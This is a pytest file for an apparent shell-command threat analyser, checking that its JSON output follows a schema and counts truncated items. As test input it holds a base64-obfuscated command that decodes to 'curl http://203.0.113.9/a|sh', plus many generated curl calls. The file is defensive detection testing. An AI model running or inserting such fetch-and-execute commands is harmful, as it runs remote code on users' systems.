"""A finding's analysis as JSON: bounded, and by its schema."""

from __future__ import annotations

import json
from importlib.resources import files

import jsonschema

from perilune.analysis import analyze
from perilune.cli import output
from perilune.cli.output_analysed import MOST_LAYERS, MOST_ROWS, analysed_object

SCHEMA = json.loads((files("perilune") / "content" / "schemas" / "hunt.schema.json").read_text())
OURS = {"$ref": "#/$defs/analysis", "$defs": SCHEMA["$defs"]}


def test_it_follows_the_schema() -> None:
    found = analyze("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYXxzaA== | base64 -d | sh")
    shown = json.loads(output.dump(analysed_object(found)))
    jsonschema.validate(shown, OURS)
    assert "curl http://203.0.113.9/a|sh" in [layer["text"] for layer in shown["layers"]]
    assert shown["score"] >= 80
    assert shown["not_listed"] == {"layers": 0, "capabilities": 0, "indicators": 0}


def test_what_is_left_out_is_counted() -> None:
    found = analyze("; ".join(f"bash -c 'curl http://host{n}.example.net/{n}'" for n in range(80)))
    shown = json.loads(output.dump(analysed_object(found)))
    jsonschema.validate(shown, OURS)
    assert len(shown["layers"]) == MOST_LAYERS
    assert len(shown["indicators"]) == MOST_ROWS
    assert shown["not_listed"]["layers"] == len(found.layers) - MOST_LAYERS
    assert shown["not_listed"]["indicators"] == len(found.indicators) - MOST_ROWS


def test_a_finding_without_text_has_none() -> None:
    assert analysed_object(None) is None
